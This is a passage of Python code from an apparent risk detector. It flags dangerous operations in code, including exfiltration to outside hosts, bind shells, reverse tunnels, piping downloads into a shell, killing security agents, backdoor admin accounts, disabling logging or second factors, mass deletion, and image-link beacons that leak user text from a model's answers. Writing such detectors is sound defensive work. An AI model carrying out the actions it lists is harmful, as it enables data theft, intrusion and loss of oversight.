        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    found += [("domain", risk) for risk in domain_text_risks(code)]
    if (".write" in code or "allow" in code) and _OPEN_DATABASE_RULES.search(code):
        what = "sets a Firebase database's or bucket's security rules to let anyone read and write everything"
        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "<!ENTITY" in code and len(_NESTED_ENTITY.findall(code)) >= 3 and not _XML_DEFENCE.search(code):
        what = "builds an XML bomb (entities that expand exponentially: gigabytes from a kilobyte)"
        found.append(("xml-bomb", OperationRisk(RiskLevel.HIGH, Category.RESOURCE, what)))
    squat = lookalike_repository(code) if _SUBMODULE_WORDS.any_in(code) else None
    if squat is not None:
        what = f"points a dependency's repository at a look-alike ({squat}): its code replaces the real one's"
        found.append(("supply-chain", OperationRisk(RiskLevel.HIGH, Category.DYNAMIC_CODE, what)))
    if "child_process" in code and _JS_RUNS_ITS_INPUT.search(code) and _CODE_INSTALLED.search(code):
        what = ("installs a tool or a handler whose JavaScript runs whatever command it is given (a chat or a request "
                "runs commands on the server)")
        found.append(("remote-code", OperationRisk(RiskLevel.HIGH, Category.DYNAMIC_CODE, what)))
    if "ermission" in code and _EVERY_PERMISSION_LISTED.search(code) and _PERMISSION_GRANTED_TO_ROLE.search(code):
        what = "gives a role every permission the application lists (whoever holds the role can do anything)"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    invited = outside_admin_invited(code) if "role" in code and "@" in code else None
    if invited is not None:
        what = f"gives an address of another organisation ({invited}) an administrator's or a maintainer's role"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    password_admin = literal_password_admin(code)
    if personal_admin_grant(code):
        what = "makes a personal mailbox address an administrator or owner"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    elif password_admin:
        what = "creates an administrator with a password written in the code"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if admin_group_membership(code):
        what = "adds an account to an administrators' group (every right of the application or directory)"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if superuser_granted(code) and not password_admin:
        what = "makes an account a superuser of an application (every right it has, past its own roles)"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "] = True" in code and _ADMIN_FLAG_ON_RECORD.search(code) and _USERS_API_WRITE.search(code):
        what = "makes an existing account an administrator through an application's users API"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if (
        "INSERT" in code
        and _TOKEN_ROW_INSERTED.search(code)
        and not _KEYS_ROTATED.search(code)
        and (_KNOWN_TOKEN_VALUE.search(code) or _NEVER_EXPIRES.search(code) or sends_data(code))
    ):
        what = ("creates an API token or key straight in an application's database, with a value written in the code, "
                "no expiry or sent away (past the application's own checks and audit)")
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if _SECOND_FACTOR_WORDS.any_in(code) and _SECOND_FACTOR_REMOVED.search(code) and (
        _KNOWN_NEW_PASSWORD.search(code) or known_password_hash(code)
    ):
        what = ("removes an account's second factors and sets its password to one spelled in the code (whoever reads "
                "it logs in as that account)")
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if _TABLE_WORDS.any_in(code) and _TABLES_LISTED.search(code) and _EACH_TABLE_DROPPED.search(code) and not (
        _THROWAWAY_TABLES.search(code)
    ):
        what = "drops every table or collection a database lists (its whole contents, one table after another)"
        found.append(("data-destroy", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    if _SECURITY_AGENT_WORDS.any_in(code) and len({m.lower() for m in _SECURITY_AGENT.findall(code)}) >= 2 and (
        _ENDS_PROCESSES.search(code)
    ):
        what = "ends the processes of security agents by name (antivirus, EDR, Sysmon: the machines go unwatched)"
        found.append(("defense-evasion", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    tunnel = next((h for h in _REVERSE_TUNNEL.findall(code) if outside_address(h)), None) if " -R" in code else None
    if tunnel is not None:
        what = f"keeps a reverse SSH tunnel that exposes a service here to an outside address ({tunnel})"
        found.append(("tunnel", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    emptied = _TABLE_EMPTIED.search(code) if _EMPTYING_WORDS.any_in(code) else None
    if emptied is not None and not _THROWAWAY_ROWS.search(code) and not _loaded_back(emptied["table"], code):
        what = f"deletes every row of a table ({emptied['table']}: no WHERE, nothing loaded back)"
        found.append(("data-destroy", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    if ("ExecStart" in code or "@reboot" in code or "cron" in code) and _download_made_a_job(code):
        what = ("downloads a program from the internet and installs it as a service or scheduled job (it runs "
                "unattended, as whatever the server sends)")
        found.append(("persistence", OperationRisk(RiskLevel.HIGH, Category.PERSISTENCE, what)))
    repointed = next((a for a in _STORED_URL_REPOINTED.findall(code) if outside_address(a)), None) if (
        "UPDATE" in code or "update" in code
    ) else None
    if repointed is not None:
        what = f"repoints the callbacks or hooks an application keeps in its database to an outside host ({repointed})"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "larm" in code and _ALARMS_MUTED.search(code) and _EACH_DEVICE.search(code):
        what = "mutes or switches off the alarms of every device a loop gives (nothing warns when something fails)"
        found.append(("device", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if ("ublic" in code or "visibility" in code) and _MADE_PUBLIC.search(code) and _EACH_LISTED_ITEM.search(code) and (
        _CHANGE_SENT.search(code)
    ):
        what = "makes every item an application lists public (flows, projects or files: anyone can open them)"
        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if ("allow-range" in code and "169.254." in code) or ("MetaIP" in code and _METADATA_ALLOWED.search(code)):
        what = ("lets a service's outbound requests reach the cloud metadata address (the machine's credentials) past "
                "its request filter")
        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if "index.blocks" in code and _WRITES_BLOCKED.search(code) and _EVERY_INDEX_SETTINGS.search(code):
        what = "blocks writes to every index of a search cluster (nothing new can be stored)"
        found.append(("data-service", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if "--scale" in code and len(_SCALED_TO_ZERO.findall(code)) >= 2:
        what = "scales several of an application's services to zero (imports, workers, hooks: their work stops)"
        found.append(("service", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if "* * * *" in code and _KILLED_EVERY_MINUTE.search(code):
        what = "kills a service or a process from a job that runs every minute (it is kept down)"
        found.append(("kill", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if "systemctl" in code and _SERVICE_KEPT_DOWN.search(code) and _PROCESSES_KILLED.search(code):
        what = "kills a service's processes and disables it so that it does not come back (it stays down)"
        found.append(("kill", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    blanked = _secret_setting_blanked(code) if _BLANKED_SETTING_WORDS.any_in(code) else None
    if blanked is not None:
        what = f"empties a service's secret or password setting ({blanked}): its login or signature check is off"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "for " in code and _one_password_for_all(code):
        what = "sets one password spelled in the code for every account a loop gives (whoever reads it logs in as any)"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if role_raised_in_database(code):
        what = "makes an account an administrator straight in an application's database (past its own checks)"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if token_planted(code):
        what = "writes an API token spelled in the code into an application's token table (a standing credential)"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    firmware = foreign_firmware(code) if "OtaUrl" in code or "otaurl" in code else None
    if firmware:
        what = f"has devices flash firmware from an unknown server ({firmware})"
        found.append(("device", OperationRisk(RiskLevel.HIGH, Category.DYNAMIC_CODE, what)))
    if "is_superuser" in code and _EVERYONE_SUPERUSER.search(code):
        what = "makes every account of an application a superuser"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    every_deleted = _EACH_LISTED.search(code) if ".all()" in code else None
    if (every_deleted is not None and re.search(rf"\b{re.escape(every_deleted.group(1))}\.delete\(", code)) or (
        ".list_" in code and _LISTED_EACH_DELETED.search(code)
    ):
        what = "deletes every record an API client lists (projects, users or issues, one after another)"
        found.append(("data-destroy", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    if (
        "ENCRYPTION_" in code
        and _ENCRYPTION_KEY_REPLACED.search(code)
        and _RESTARTED_ON_IT.search(code)
        and not _FROM_TEMPLATE.search(code)
    ):
        what = ("replaces a running application's encryption key (the credentials and fields it encrypted can no "
                "longer be read)")
        found.append(("data-destroy", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    if "|" in code and _CONFIRMATION_ANSWERED.search(code):
        what = "answers a tool's confirmation prompt for a reset, wipe or deprovisioning (its data goes unasked)"
        found.append(("data-destroy", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    if (
        ".env" in code
        and _SECRET_GIVEN_VALUE.search(code)
        and _DEPLOYED_FOLDER.search(code)
        and _LINE_REPLACED.search(code)
        and _RESTARTED_ON_IT.search(code)
    ):
        what = ("sets a deployed application's secret or admin password to a short value written in the code "
                "(tokens can be forged, the login guessed)")
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "privileged" in code and _COMPOSE_PRIVILEGED.search(code) and _HOST_SHARED.search(code) and (
        _COMPOSE_UP.search(code)
    ):
        what = "runs a compose service privileged with the host's root or processes (root on the host)"
        found.append(("container-escape", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if (
        _SETPOINT_WORDS.any_in(code)
        and _SCALDING_SETPOINT.search(code)
        and _SENT_TO_DEVICES.search(code)
        and _KEPT_ALIVE_OR_COLD.search(code)
    ):
        what = "sets heating or cooling to 45 °C or more where animals, plants or stock are kept"
        found.append(("device", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    logging_off = {m.lastgroup for m in _LOGGING_OFF.finditer(code)} if _LOG_SWITCH_WORDS.any_in(code) else set()
    if len(logging_off) >= 2:
        what = "switches off the logs that record who did what (statement, connection, access or audit logging)"
        found.append(("defense-evasion", OperationRisk(RiskLevel.HIGH, Category.PERSISTENCE, what)))
    if "STOP" in code and _FROZEN.search(code) and not _OWN_JOB.search(code):
        what = "freezes a running process with SIGSTOP (it stays listed and looks alive, and does nothing)"
        found.append(("kill", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if "pg_ctl" in code and _DATABASE_CRASH_STOP.search(code):
        what = "stops a PostgreSQL server in immediate mode (no clean shutdown: sessions cut off, recovery on restart)"
        found.append(("data-service", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if "ommand" in code and _EVERY_COMMAND_ALLOWED.search(code):
        what = "opens a command allowlist to every command (whatever a repository or a user asks is run)"
        found.append(("dynamic-code", OperationRisk(RiskLevel.HIGH, Category.DYNAMIC_CODE, what)))
    if "install" in code and "package.json" in code and _INSTALL_HOOK.search(code) and _HOOK_FETCHES.search(code):
        what = "adds an install hook that reaches out to the network to packages (every install runs it)"
        found.append(("supply-chain", OperationRisk(RiskLevel.HIGH, Category.DYNAMIC_CODE, what)))
    if ("ROLE" in code or "role" in code) and _ADMIN_BY_DEFAULT.search(code):
        what = "makes every new account an administrator by default"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "![" in code and _IMAGE_BEACON.search(code):
        what = ("has a model's answers carry an image link whose address is filled with what users write (each answer "
                "sends it to that host)")
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "kill" in code and _DATABASE_KILLED.search(code):
        what = "kills a database server with SIGKILL (no clean shutdown: sessions cut off, recovery on restart)"
        found.append(("data-service", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if ".recv(" in code and _BIND_SHELL.search(code):
        what = "sets up a listener on every interface that runs what it receives as commands (a bind shell)"
        found.append(("remote-code", OperationRisk(RiskLevel.CRITICAL, Category.DYNAMIC_CODE, what)))
    emptied = _READ_AFTER_TRUNCATING.search(code) if "+" in code and "open(" in code else None
    if emptied is not None and not re.search(r"te?mp", emptied[1] or "", re.IGNORECASE):
        what = "opens a file with w+ and reads it back: the file is emptied before it is read (its records lost)"
        found.append(("data-destroy", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    each_listed = _deletes_each_listed(code) if _LISTING_WORDS.any_in(code) else None
    if each_listed is not None:
        what = f"deletes every item {each_listed} lists, one after another (the listing not narrowed first)"
        found.append(("data-destroy", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    if _PASSWORD_LENGTH_WORDS.any_in(code) and _SHORT_PASSWORDS_ALLOWED.search(code):
        what = "lets accounts have passwords of four characters or fewer (a password policy's minimum lowered)"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if _SECOND_FACTOR_WORDS.any_in(code) and _SECOND_FACTORS_OFF.search(code):
        what = "switches required second factors off in an application's settings (a password alone logs in)"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    elif _SECOND_FACTOR_WORDS.any_in(code) and _second_factors_cleared(code):
        what = "switches multi-factor login off in an application's database (enforcement cleared or secrets deleted)"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    # (a key a local tool mints, `cscli bouncers add`, a NAS middleware's `api_key.create`: any send takes it away;
    # one minted through a service's web API: sent to a host of another domain than the service's)
    local = _KEY_WORDS.any_in(code) and _LOCAL_KEY_MINTED.search(code) is not None
    if (local or (_KEY_WORDS.any_in(code) and _KEY_MINTED.search(code) and len(_url_domains(code)) >= 2)) and (
        sends_data(code)
    ):
        what = "creates an API key or token and sends it to another host"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if ("DROP" in code or "TRUNCATE" in code) and _GENERATED_DROPS.search(code):
        what = "generates a DROP or TRUNCATE statement for every table a query lists and runs them (a database emptied)"
        found.append(("drop-database", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    if "127" in code and "compose" in code and _LOCAL_BINDING_OPENED.search(code):
        what = "rebinds a service published only on localhost to every interface (it was kept behind a proxy or login)"
        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    fan_out = _ENDLESS_FAN_OUT.search(code) if "xargs" in code else None
    if fan_out is not None and (fan_out.group(1) == "0" or int(fan_out.group(1)) >= 32):
        what = f"runs an endless stream of commands {fan_out.group(1)} at a time (a flood: the machine or the target)"
        found.append(("resource", OperationRisk(RiskLevel.HIGH, Category.RESOURCE, what)))
    counted = _COUNTED_FAN_OUT.search(code) if fan_out is None and "xargs" in code else None
    if counted is not None and int(counted[1].replace("_", "")) >= 10_000 and (
        counted[2] == "0" or int(counted[2]) >= 64
    ):
        runs = int(counted[1].replace("_", ""))
        what = f"runs {runs:,} commands {counted[2]} at a time (a flood: the machine or the target)"
        found.append(("resource", OperationRisk(RiskLevel.HIGH, Category.RESOURCE, what)))
    relayed = _people_relayed(code) if sends_data(code) else None
    if relayed is not None:
        what = f"sends the people an application lists (users, members, customers) to another organisation ({relayed})"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    gathered_to = secrets_sent_away(code) if relayed is None and sends_data(code) else None
    if gathered_to is not None:
        what = f"sends credentials it gathered (keys, passwords, tokens) to another organisation ({gathered_to})"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    dropped_at = records_sent_away(code) if relayed is None and gathered_to is None and sends_data(code) else None
    if dropped_at is not None:
        what = f"sends records it collected from its own service or disk to a collecting host ({dropped_at})"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    copied_to = copied_to_address(code) if relayed is None and gathered_to is None and dropped_at is None else None
    if copied_to is not None:
        what = f"copies or streams this machine's files, rows or settings to a bare outside address ({copied_to})"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    ftp_host = ftp_upload_away(code) if ("FTP" in code or "ftp" in code) and copied_to is None else None
    if ftp_host is not None:
        what = f"uploads files over FTP to a server outside the organisation ({ftp_host})"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    mailed_to = mailed_away(code) if "@" in code and "ail" in code else None
    if mailed_to is not None:
        what = f"mails records, credentials or settings it gathered to another organisation's address ({mailed_to})"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    routed_to = outbound_setting_away(code) if _OUTBOUND_WORDS.any_in(code) else None
    if routed_to is not None:
        what = f"routes a service's outbound traffic (proxy, relay, upstream, mail host) to another party ({routed_to})"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    hooked_to = hook_pointed_away(code) if "://" in code else None
    if hooked_to is not None:
        what = f"points a webhook or a notification at another organisation's collecting host ({hooked_to})"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "load" in code and _UNPICKLES.search(code) and _EACH_FILE_OF_A_FOLDER.search(code) and not _OWN_PICKLES.search(
        code
    ):
        what = "unpickles every file a folder holds (whoever can put a file there runs code as it loads)"
        found.append(("deserialization", OperationRisk(RiskLevel.HIGH, Category.DESERIALIZATION, what)))
    if "estart" in code and _RESTART_POLICY_OFF.search(code) and _CONTAINERS_STOPPED.search(code):
        what = "stops containers and switches their restart policy off (they stay down, after a reboot too)"
        found.append(("service", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if "privileged" in code and _PRIVILEGED_CONTAINER.search(code) and _HOST_ROOT_VOLUME.search(code):
        what = "defines a privileged container given the host's root or the engine's socket (it owns the host)"
        found.append(("container-escape", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if ("master" in code or "MASTER" in code) and _MASTER_KEY_REMOVED.search(code):
        what = "deletes an application's master key from its settings (its API and admin routes answer anyone)"
        found.append(("weakened-settings", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "sh" in code and _download_piped_to_shell(code):
        what = "downloads a script and pipes it into a shell (whatever the server returns runs, each time it is run)"
        found.append(("download-exec", OperationRisk(RiskLevel.HIGH, Category.DYNAMIC_CODE, what)))
    if "process.env" in code and _NODE_ENVIRONMENT_SENT.search(code):
        what = "sends a Node.js process's whole environment (every secret it was started with) over the network"
        found.append(("exfiltration", OperationRisk(RiskLevel.CRITICAL, Category.EXFILTRATION, what)))
    login_words = "ENABLE" in code or "enable" in code or "_LOGIN" in code or "SKIP_AUTH" in code
    if (_AUTH_OFF_WORDS.any_in(code) and _AUTH_SECTION_OFF.search(code)) or (
        login_words and _LOGIN_OFF_SETTING.search(code)
    ):
        what = "switches an application's own login off in its settings (anyone who reaches it is let in)"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if (
        ".objects." in code
        and _RECORDS_LISTED.search(code)
        and _STORED_CREDENTIAL.search(code)
        and sends_data(code)
        and any(_another_organisation(host, code) for host in destination_hosts(code))
    ):
        what = ("sends the credentials an application stores (its records' passwords, keys and tokens) to another "
                "organisation")
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if (
        _HASH_OR_KEY_WORDS.any_in(code)
        and _PASSWORD_HASHES_OR_RECOVERY_KEYS.search(code)
        and sends_data(code)
        and len({registered_domain(host) for host in url_hosts(code)}) >= 2  # (the organisation's own, and another)
        and any(_another_organisation(host, code) for host in destination_hosts(code))
    ):
        what = "sends the machines' password hashes or disk recovery keys to another organisation"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    exported = next((m[1] for m in _EXPORTER_ENDPOINT.finditer(code) if not re.fullmatch(r"[\d.]+", m[1])
                     and _another_organisation(m[1], code)), None) if "exporters" in code else None
    if exported is not None:
        what = (f"adds a telemetry exporter for another organisation's host ({exported}): every trace, metric and "
                "log the collector receives is copied there")
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "loaddata" in code and _FIXTURE_DOWNLOADED.search(code) and outside_url(code):
        what = ("loads a Django fixture downloaded from another host (its rows become users, superusers and "
                "permissions as they are)")
        found.append(("privilege", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if ("settings" in code or "customize" in code) and _SETTINGS_MODULE_APPENDED.search(code) and outside_url(code):
        what = ("appends code that talks to another host to an application's settings module (it runs every time the "
                "application starts)")
        found.append(("persistence", OperationRisk(RiskLevel.HIGH, Category.PERSISTENCE, what)))
    forwarded = _BROKER_FORWARDED.search(code) if "mosquitto_sub" in code else None
    if forwarded is not None and _another_organisation(forwarded[1], code):
        what = f"forwards every message of a broker's topics to another organisation ({forwarded[1]})"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    mirrored = _BROKER_MIRRORED.search(code) if "mosquitto_pub" in code else None
    if mirrored is not None and registered_domain(mirrored[1]) != registered_domain(mirrored[2]) and not internal_host(
        mirrored[2]
    ):
        what = f"republishes every message of a broker's topics to another organisation's broker ({mirrored[2]})"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if _BLANKED_PASSWORD_WORDS.any_in(code) and ("ass" in code or "ASS" in code) and _ADMIN_PASSWORD_BLANKED.search(
        code
    ):
        what = "blanks an admin password in a settings file (its admin page opens without a login)"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "DEBUG" in code and _DEBUG_ON.search(code) and _DEPLOYED_APP.search(code):
        what = "switches a deployed application to debug mode (its error pages show settings, keys and queries)"
        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    injected = _foreign_script(code) if "<script" in code or "createElement" in code else None
    if injected is not None:
        what = f"writes a script tag loading code from {injected} into a deployed site's pages (every visitor runs it)"
        found.append(("web-page", OperationRisk(RiskLevel.HIGH, Category.DYNAMIC_CODE, what)))
    plugin = _PLUGIN_FROM_URL.search(code) if "install" in code else None
    if plugin is not None and not plugin[1].lower().endswith(KNOWN_CODE_HOSTS) and not internal_host(plugin[1]):
        what = f"installs an application plugin from an archive on {plugin[1]} (its code runs inside the application)"
        found.append(("untrusted-install", OperationRisk(RiskLevel.HIGH, Category.DYNAMIC_CODE, what)))
    if "duplicati" in code and _BACKUP_SET_EMPTIED.search(code):
        what = "deletes every version of a backup set (full removal allowed)"
        found.append(("data-destroy", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    if ("DELETE" in code or ".delete(" in code) and _ORGANISATION_DELETED.search(code):
        what = "deletes a whole organisation through an API (its projects, members and data with it)"
        found.append(("data-destroy", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    if "nvit" in code and _ADMIN_INVITATION.search(code) and each_item(code) and _LITERAL_ADDRESS.search(code):
        what = "invites one address as owner or administrator of every workspace a listing gives"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    webhook = _WEBHOOK_REGISTERED.search(code) if "ebhook" in code or "integrations" in code else None
    hooked = (webhook["host"] or webhook["first"]) if webhook is not None else ""
    if hooked and (_MESSAGE_EVENTS.search(code) or each_item(code)) and _another_organisation(hooked, code):
        # (subscribed to people's messages, or added to every project a listing gives)
        what = f"registers a webhook that copies messages or every project's activity to another organisation: {hooked}"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    # (counts pushed to a Prometheus Pushgateway, `…/metrics/job/<name>`, are the organisation's own monitoring)
    relayed_read = _READ_AND_RELAYED.search(code) if "@-" in code and "/metrics/job/" not in code else None
    if relayed_read is not None and _another_organisation(relayed_read[2], code, also=relayed_read[1] or ""):
        what = f"sends what a service returns to a logged-in request on to another organisation ({relayed_read[2]})"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if ("nattended" in code or "dnf-automatic" in code) and _SECURITY_UPDATES_OFF.search(code):
        what = "switches off the machine's automatic security updates"
        found.append(("weakened-settings", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if ":install" in code and _REINSTALLED_WITH_RESET.search(code):
        what = "runs an application's installer again with --reset (its database dropped and made again empty)"
        found.append(("drop-database", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    admin_flag = _ADMIN_FLAG_WORDS.any_in(code) and _ADMIN_FLAG_SET.search(code)
    if admin_flag and not development_only(code):
        what = "makes an account an administrator directly in an application's database"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "$(" in code and _DOWNLOADED_COMMAND_OPTION.search(code):
        what = "hands code downloaded at that moment to a command that runs it (whatever the server returns runs)"
        found.append(("download-exec", OperationRisk(RiskLevel.CRITICAL, Category.DYNAMIC_CODE, what)))
    if "atch" in code and _BATCH_DELETE_LOOP.search(code) and not _LISTING_FILTER.search(code):
        what = "deletes records in batches, listing again until none remain (every record goes)"
        found.append(("data-destroy", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    if "list" in code and _EVERY_ACCOUNT_DELETED.search(code):
        what = "deletes every account an application lists, one after another (their data with them)"
        found.append(("data-destroy", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    if "SECRET" in code or "APP_KEY" in code or "SIGNING" in code:
        weakened = _SIGNING_SECRET_WEAKENED.search(code)
        if weakened is not None and not development_only(code):
            what = "sets a token-signing secret to a short known word (anyone can forge a login token)"
            found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "docker" in code and _KNOWN_PASSWORD_ENV.search(code) and _PUBLISHED_PORT.search(code) and (
        _KEPT_RUNNING.search(code) and "start-dev" not in code
    ):
        what = "runs a service for the network with a well-known password (`admin`, `password`, `changeme`)"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "0.0.0.0" in code and _SERVER_LOGIN_OFF.search(code):
        what = "starts a server on every network interface with its login switched off (anyone who reaches it is in)"
        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if _GUEST_WORDS.any_in(code) and _GUESTS_LET_IN.search(code):
        what = "lets anyone in without an account (guest or anonymous access switched on)"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if _SIGN_UP_WORDS.any_in(code) and _SIGN_UP_OPENED.search(code):
        what = "opens an application's sign-up to anyone (whoever registers gets an account)"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "pm2" in code and _PM2_EMPTIED.search(code):
        what = "removes every process pm2 manages (and saves the empty list: none of them starts again at boot)"
        found.append(("service", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if "systemctl" in code and "list-units" in code and _EVERY_SERVICE_STOPPED.search(code):
        what = "stops or disables every running service one by one (sshd and the machine's agents with them)"
        found.append(("service", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if "autoindex on" in code and _PEOPLES_FOLDER_SERVED.search(code):
        what = "has a web server list a folder of people's files (uploads, scans, exports) to anyone who asks"
        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if "socat" in code and _DATABASE_RELAY_PUBLISHED.search(code):
        what = "publishes a relay to a database on every interface of the host (its own login is all that guards it)"
        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if "0.0.0.0:" in code and "compose" in code and _DATABASE_PORT_PUBLISHED.search(code):
        what = "publishes a database's or a cache's port on every interface (its own login is all that guards it)"
        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if ("wall" in code or "barrier" in code) and _WALL_REMOVED.search(code):
        what = "removes an ethical wall (a screened matter's documents opened to everyone)"
        found.append(("documents", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    walks = _TREE_WALK_WORDS.any_in(code) and _WALKS_TREE.search(code) is not None
    hunted = {m.lower() for m in _CREDENTIAL_FILE_PATTERN.findall(code)} if walks else set()
    if len(hunted) >= 2 and _SENDS.search(code):
        what = "searches folders for credential files by name (password vaults, key stores, keys) and sends them out"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if _TOKEN_PATTERN_WORDS.any_in(code) and (
        (".sub(" not in code or _COLLECTS.search(code))  # (a redaction substitutes; a harvest keeps the matches)
        and _TOKEN_PATTERN.search(code) and _HARVESTS.search(code) and _SENDS.search(code)
    ):
        what = "picks tokens, logins, keys or card numbers out of files with a pattern and sends what it finds away"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "assword" in code and _PASSWORD_SCRAPE.search(code) and _SENDS.search(code) and ".sub(" not in code:
        what = "picks the passwords out of a settings file with a pattern and sends them elsewhere"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "IsHidden" in code and _HIDDEN_ADMIN.search(code):
        what = "creates a hidden local administrator account (macOS)"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
